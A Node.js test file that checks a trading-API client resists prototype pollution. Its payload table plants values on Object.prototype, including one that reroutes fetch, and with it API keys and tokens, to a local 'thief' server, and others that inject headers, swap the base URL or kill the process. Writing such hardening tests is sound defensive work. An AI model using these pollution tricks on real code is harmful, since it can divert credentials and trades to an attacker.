// What some other code has put on Object.prototype is no option: it redirects no request, changes
// none and ends none. Each in a process of its own.

import assert from 'node:assert/strict';
import test from 'node:test';
import { PRACTICE_ACCOUNT } from '../../www/gateway/index.js';
import { project } from '../support/installed-package.js';
import { ID, isCancelled, practice } from '../support/practice.js';
import { rawServer } from '../support/raw-server.js';
import { runScript } from '../support/script.js';

/** Runs a cancel, a bulk and a signature after `pollution`; gives what came of them. */
async function run(pollution, { httpUrl, env = {} }) {
  const { appKey, appSecret, accessToken } = PRACTICE_ACCOUNT;
  const keys = [appKey, appSecret, accessToken].map((key) => JSON.stringify(key)).join();
  const make = httpUrl
    ? `Config.fromApikey(${keys}, { httpUrl: '${httpUrl}', rateLimit: false })`
    : 'Config.fromApikeyEnv()';
  const { stdout, stderr } = await runScript(
    project,
    `import { Config, TradeContext } from 'longport-cancel-order';
     ${pollution}
     const settle = (promise) => promise.catch(({ message }) => message);
     const ctx = new TradeContext(${make});
     const receipt = await settle(ctx.cancelOrder('${ID}', {}));
     const results = await settle(ctx.cancelOrders(['${ID}'], {}));
     const signed = await settle(ctx.signCancelOrder('${ID}', {}));
     console.log([receipt.orderId ?? receipt, results[0]?.ok, new URL(signed.url).origin].join(' '));`,
    { env },
  );
  return { told: stdout.trim(), stderr };
}

/** Each: what is put on Object.prototype, where `other` is the address of a server of a thief's. */
const POLLUTIONS = {
  'fetch, a function': (other) =>
    `const real = fetch;
     Object.prototype.fetch = (url, init) => real('${other}/', init);`,
  'headers, a header': () => `Object.prototype.headers = { 'x-polluted': '1' };`,
  'a header of its own': () => `Object.prototype['x-polluted'] = '1';`,
  'timeoutMs, no number': () => `Object.prototype.timeoutMs = 'soon';`,
  'maxRetries, no number': () => `Object.prototype.maxRetries = 'many';`,
  'isAttached, true': () => `Object.prototype.isAttached = true;`,
  'keepalive, no boolean': () => `Object.prototype.keepalive = 'x';`,
  'onAttempt and onProgress': () =>
    `Object.prototype.onAttempt = Object.prototype.onProgress = () => process.exit(9);`,
  'enablePapertrading, true': () => `Object.prototype.enablePapertrading = true;`,
};

for (const [what, pollution] of Object.entries(POLLUTIONS)) {
  test(`${what} on Object.prototype changes nothing`, async (t) => {
    const thief = await rawServer(t, (socket) => socket.destroy());
    const { gateway } = await practice(t);
    const { told, stderr } = await run(pollution(thief.url), { httpUrl: gateway.url });
    assert.deepEqual([told, stderr], [`${ID} true ${gateway.url}`, '']);
    assert.equal(thief.requests, 0);
    assert.ok(isCancelled(gateway));
    for (const { headers, query } of gateway.calls) {
      assert.equal(headers['x-polluted'], undefined);
      assert.equal(headers['x-papertrading'], undefined);
      assert.equal(query, `order_id=${ID}`);
    }
  });
}

test('an address on Object.prototype changes nothing where all others come by default', async (t) => {
  const thief = await rawServer(t, (socket) => socket.destroy());
  const { stdout } = await runScript(
    project,
    `import { Config, TradeContext } from 'longport-cancel-order';
     Object.prototype.httpUrl = '${thief.url}';
     for (const options of [undefined, null, {}, { maxRetries: 0 }]) {
       const ctx = new TradeContext(Config.fromApikey('k', 's', 't', options));
       console.log(new URL((await ctx.signCancelOrder('7')).url).origin);
     }`,
  );
  assert.equal(stdout, 'https://openapi.longportapp.com\n'.repeat(4));
});

test('a variable on Object.prototype is no variable of the environment', async (t) => {
  const thief = await rawServer(t, (socket) => socket.destroy());
  const { gateway } = await practice(t);
  const { appKey, appSecret, accessToken } = PRACTICE_ACCOUNT;
  const { told } = await run(
    `Object.prototype.LONGPORT_HTTP_URL = '${thief.url}';
     Object.prototype.LONGPORT_APP_KEY = 'another';`,
    {
      env: {
        LONGBRIDGE_APP_KEY: appKey,
        LONGBRIDGE_APP_SECRET: appSecret,
        LONGBRIDGE_ACCESS_TOKEN: accessToken,
        LONGBRIDGE_HTTP_URL: gateway.url,
      },
    },
  );
  assert.equal(told, `${ID} true ${gateway.url}`);
  assert.equal(thief.requests, 0);
});
